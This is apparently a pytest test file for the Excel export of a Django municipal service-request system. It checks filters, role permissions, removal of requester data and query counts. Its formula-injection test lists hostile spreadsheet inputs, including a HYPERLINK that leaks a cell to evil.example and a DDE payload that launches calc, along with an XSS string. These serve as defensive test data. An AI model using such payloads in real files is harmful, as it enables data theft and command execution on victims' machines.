"""导出 Excel: every work list as .xlsx, with its page's filters, without requester data, with
formula injection neutralised, and with a query count that does not grow with the rows.

Orders are made through the workflow (the system's classify and dispatch, backdated where a
deadline must have passed). The cast (conftest): dispatcher, operator, zhujian (住建局 handler),
jiaoti (教体局), supervisor, leader, admin.
"""

import datetime as dt
import io
import re

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from zhili.requests.choices import Action
from zhili.requests.models import ServiceRequest
from zhili.taxonomy.models import Category
from zhili.web.export import COLUMNS, PERSONAL_FIELDS, safe_text
from zhili.web.worklists import board_sections
from zhili.workflow import actions

pytestmark = pytest.mark.django_db

LIST_URL = reverse("web:request-list")
EXPORT_URL = reverse("web:export")
QUEUE_EXPORT_URL = reverse("web:export-queue")
INBOX_EXPORT_URL = reverse("web:export-inbox")
BOARD_EXPORT_URL = reverse("web:export-board")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
NAME, PHONE = "欧阳锋", "13912345678"


@pytest.fixture
def order(make_request, unit):
    """``order(title, unit_code="370102-D09" | None, at=None, **intake)``: an order classified
    (城乡建设) and dispatched by the system, or queued for a dispatcher when ``unit_code`` is None.
    Every order carries the same requester, so the tests can look for it in the file."""

    def make(title="小区门口道路破损", *, unit_code="370102-D09", at=None, **fields):
        fields.setdefault("requester_name", NAME)
        fields.setdefault("requester_phone", PHONE)
        request = make_request(title=title, at=at, **fields)
        actions.classify(request, Category.objects.get(code="0101"), at=at, subdistrict=unit("370102001"))
        if unit_code is None:
            actions.queue_for_dispatch(request, reason="置信度不足", at=at)
        else:
            actions.dispatch(request, unit(unit_code), at=at)
        return ServiceRequest.objects.get(pk=request.pk)

    return make


def workbook(response):
    """The downloaded workbook (asserting it is one)."""
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"] == XLSX
    assert response["Content-Disposition"].startswith("attachment;")
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


def rows_of(sheet) -> list[dict]:
    """The sheet's data rows as {header: value}."""
    values = list(sheet.iter_rows(values_only=True))
    return [dict(zip(values[0], row, strict=True)) for row in values[1:]]


def numbers(sheet) -> list[str]:
    return [row["工单编号"] for row in rows_of(sheet)]


def page_numbers(client, url, params) -> list[str]:
    """The order numbers a list page shows, over all its pages, in order."""
    found, page = [], 1
    while True:
        response = client.get(url, {**params, "page": page})
        html = response.content.decode()
        found += re.findall(r'href="/requests/([^/"]+)/"', html.split("<tbody>")[1].split("</tbody>")[0])
        if page >= response.context["page"].paginator.num_pages:
            return found
        page += 1


# --- the request list ------------------------------------------------------------------------------

def test_the_list_export_has_the_pages_rows_with_its_filters(client_as, order, unit):
    zhujian = [order(f"住建 {i}") for i in range(3)]
    jiaoti = [order(f"教体 {i}", unit_code="370102-D03") for i in range(2)]
    client = client_as("dispatcher")
    params = {"lead_unit": unit("370102-D09").pk}
    sheet = workbook(client.get(EXPORT_URL, params)).active
    assert sheet.title == "工单列表"
    assert numbers(sheet) == page_numbers(client, LIST_URL, params) == [o.number for o in reversed(zhujian)]
    assert set(numbers(workbook(client.get(EXPORT_URL, {"q": "教体"})).active)) == {o.number for o in jiaoti}
    assert len(numbers(workbook(client.get(EXPORT_URL)).active)) == 5


def test_the_export_covers_every_page_of_the_list(client_as, order, monkeypatch):
    from zhili.web import views

    monkeypatch.setattr(views, "PAGE_SIZE", 2)
    made = [order(f"分页 {i}") for i in range(5)]
    client = client_as("dispatcher")
    assert numbers(workbook(client.get(EXPORT_URL)).active) == page_numbers(client, LIST_URL, {}) == [
        o.number for o in reversed(made)]


def test_the_columns_are_chinese_and_the_values_readable(client_as, order):
    obj = order("路面塌陷", address="历下区解放路 1 号")
    sheet = workbook(client_as("dispatcher").get(EXPORT_URL)).active
    header = next(sheet.iter_rows(max_row=1, values_only=True))
    assert list(header) == [c.header for c in COLUMNS]
    assert all(re.search(r"[\u4e00-\u9fff]", h) for h in header)
    row = rows_of(sheet)[0]
    shanghai = timezone.localtime(obj.received_at, dt.timezone(dt.timedelta(hours=8))).replace(tzinfo=None)
    assert abs(row["受理时间"] - shanghai) < dt.timedelta(seconds=1)  # Asia/Shanghai wall time, no zone
    assert (row["标题"], row["诉求地址"], row["街道"], row["状态"], row["主办单位"]) == (
        "路面塌陷", "历下区解放路 1 号", "解放路街道", "待签收", "济南市历下区住房和城乡建设局")
    assert row["诉求分类"] == Category.objects.get(code="0101").full_name
    assert row["截止时间"] is not None and row["是否超期"] is None
    assert sheet.freeze_panes == "A2"


def test_a_unit_exports_only_its_own_orders(client_as, order):
    own, other = order("住建的"), order("教体的", unit_code="370102-D03")
    assert numbers(workbook(client_as("zhujian").get(EXPORT_URL)).active) == [own.number]
    assert numbers(workbook(client_as("jiaoti").get(EXPORT_URL)).active) == [other.number]


def test_an_invalid_filter_is_refused_in_chinese_not_exported_unfiltered(client_as, order):
    order()
    response = client_as("dispatcher").get(EXPORT_URL, {"lead_unit": "999999"})
    assert response.status_code == 400
    assert response.content.decode().startswith("筛选条件无效：")


def test_the_list_pages_offer_the_export_with_their_filters(client_as, order, unit):
    order()
    client = client_as("dispatcher")
    pk = unit("370102-D09").pk
    html = client.get(LIST_URL, {"lead_unit": pk, "page": 1}).content.decode()
    assert f'href="{EXPORT_URL}?lead_unit={pk}"' in html and "导出 Excel" in html
    queue = client.get(reverse("web:dispatch-queue"), {"q": "路"}).content.decode()
    assert f'href="{QUEUE_EXPORT_URL}?q=%E8%B7%AF"' in queue
    assert f'href="{INBOX_EXPORT_URL}"' in client_as("zhujian").get(reverse("web:unit-inbox")).content.decode()
    board = client_as("supervisor").get(reverse("web:supervision-board")).content.decode()
    assert f'href="{BOARD_EXPORT_URL}"' in board


# --- privacy and safety ----------------------------------------------------------------------------

def test_requester_data_is_never_exported(client_as, order, user):
    order("普通件")
    order("保密件", confidential=True)
    cells = []
    for username, url in [("dispatcher", EXPORT_URL), ("operator", QUEUE_EXPORT_URL), ("zhujian", INBOX_EXPORT_URL),
                          ("supervisor", BOARD_EXPORT_URL)]:
        book = workbook(client_as(username).get(url))
        cells += [str(v) for sheet in book for row in sheet.iter_rows(values_only=True) for v in row if v is not None]
    text = "\n".join(cells)
    assert "普通件" in text
    for secret in (NAME, PHONE, PHONE[:3] + "****" + PHONE[-4:], "欧阳"):
        assert secret not in text
    assert not {"诉求人", "联系电话", "诉求人姓名", "来电人"} & set(cells)
    assert all(f not in str(c.value.__code__.co_names) for c in COLUMNS for f in PERSONAL_FIELDS)


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
    "=cmd|' /C calc'!A0",
])
def test_formula_text_is_neutralised(client_as, order, text):
    order(title=text, description=text, address=text)
    sheet = workbook(client_as("dispatcher").get(EXPORT_URL)).active
    row = list(sheet.iter_rows(min_row=2, max_row=2))[0]
    by_header = dict(zip([c.header for c in COLUMNS], row, strict=True))
    for header in ("标题", "诉求内容", "诉求地址"):
        cell = by_header[header]
        assert cell.data_type == "s", (header, cell.value)
        assert cell.value.startswith("'")
        assert cell.value[1:] == text.strip()  # the workflow strips the white space around a title
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)


def test_safe_text_keeps_ordinary_text_and_drops_what_xlsx_cannot_hold():
    assert safe_text("路灯不亮") == "路灯不亮"
    assert safe_text("2-3 号楼") == "2-3 号楼"
    assert safe_text("-") == "'-"
    assert safe_text("坏\x00了\x07") == "坏了"
    assert len(safe_text("长" * 40000)) == 32766


def test_html_stays_plain_text(client_as, order):
    evil = '<script>alert("x")</script><b>粗体</b>'
    order(title=evil, description=evil)
    row = rows_of(workbook(client_as("dispatcher").get(EXPORT_URL)).active)[0]
    assert row["标题"] == evil and row["诉求内容"] == evil


def test_control_characters_never_break_the_export(client_as, make_request):
    make_request(title="坏\x0b字符", description="内容\x1f\x08结束")  # (PostgreSQL refuses NUL itself)
    row = rows_of(workbook(client_as("dispatcher").get(EXPORT_URL)).active)[0]
    assert (row["标题"], row["诉求内容"]) == ("坏字符", "内容结束")


# --- cost ------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("username", "url"), [
    ("dispatcher", EXPORT_URL), ("zhujian", INBOX_EXPORT_URL), ("supervisor", BOARD_EXPORT_URL),
])
def test_the_query_count_does_not_grow_with_the_rows(client_as, order, user, username, url):
    client = client_as(username)
    past = timezone.now() - dt.timedelta(days=20)

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            workbook(client.get(url))
        return len(captured)

    for i in range(2):
        actions.red_card(order(f"少量 {i}", at=past))
    few = queries()
    for i in range(12):
        obj = order(f"大量 {i}", at=past, unit_code="370102-D09" if i % 2 else "370102-D03")
        actions.red_card(obj)
    assert queries() == few


def test_a_big_list_is_streamed_in_one_query(client_as, make_request):
    for i in range(120):
        make_request(title=f"批量 {i}")
    with CaptureQueriesContext(connection) as captured:
        response = client_as("dispatcher").get(EXPORT_URL)
    selects = [q["sql"] for q in captured.captured_queries if "requests_servicerequest" in q["sql"]]
    assert len(selects) == 1
    assert len(rows_of(workbook(response).active)) == 120


# --- the other lists -------------------------------------------------------------------------------

def test_the_queue_export_lists_only_orders_waiting_for_a_dispatcher_oldest_first(client_as, order):
    waiting = [order(f"待派 {i}", unit_code=None) for i in range(3)]
    order("已派")
    sheet = workbook(client_as("operator").get(QUEUE_EXPORT_URL)).active
    assert sheet.title == "待派单"
    assert numbers(sheet) == [o.number for o in waiting]
    assert numbers(workbook(client_as("operator").get(QUEUE_EXPORT_URL, {"q": "待派 1"})).active) == [waiting[1].number]


@pytest.mark.parametrize(("username", "status"), [("dispatcher", 200), ("admin", 200), ("zhujian", 403),
                                                  ("supervisor", 403)])
def test_the_queue_export_is_for_the_queues_roles(client_as, username, status):
    response = client_as(username).get(QUEUE_EXPORT_URL)
    response.close()  # a download not read: close its temporary file
    assert response.status_code == status


def test_the_inbox_export_lists_the_units_open_orders_in_inbox_order(client_as, order):
    mine = [order("住建一"), order("住建二")]
    order("教体的", unit_code="370102-D03")
    actions.accept(mine[0])
    client = client_as("zhujian")
    page = client.get(reverse("web:unit-inbox"))
    sheet = workbook(client.get(INBOX_EXPORT_URL)).active
    assert numbers(sheet) == [row.obj.number for row in page.context["rows"]] == [mine[1].number, mine[0].number]
    for username in ("dispatcher", "supervisor", "operator"):
        assert client_as(username).get(INBOX_EXPORT_URL).status_code == 403


def test_the_board_export_has_every_section_as_the_board_counts_it(client_as, order, user):
    past = timezone.now() - dt.timedelta(days=20)
    overdue = [order(f"超期 {i}", at=past) for i in range(3)]
    actions.red_card(overdue[0])
    for obj in overdue[:2]:
        actions.supervise(obj, Action.URGE, actor=user("supervisor"))
    client = client_as("supervisor")
    book = workbook(client.get(BOARD_EXPORT_URL))
    sections = board_sections(user("supervisor"))
    assert book.sheetnames == [s.title for s in sections]
    for section in sections:
        assert len(rows_of(book[section.title])) == section.total
        assert numbers(book[section.title])[: len(section.rows)] == [r.obj.number for r in section.rows]
    one = workbook(client.get(BOARD_EXPORT_URL, {"section": "red"}))
    assert one.sheetnames == ["红牌"] and numbers(one.active) == [overdue[0].number]
    assert client.get(BOARD_EXPORT_URL, {"section": "nope"}).status_code == 404
    assert client_as("zhujian").get(BOARD_EXPORT_URL).status_code == 403
    assert client_as("operator").get(BOARD_EXPORT_URL).status_code == 403


def test_anonymous_users_are_sent_to_login(client):
    for url in (EXPORT_URL, QUEUE_EXPORT_URL, INBOX_EXPORT_URL, BOARD_EXPORT_URL):
        assert client.get(url).url.startswith(reverse("login"))
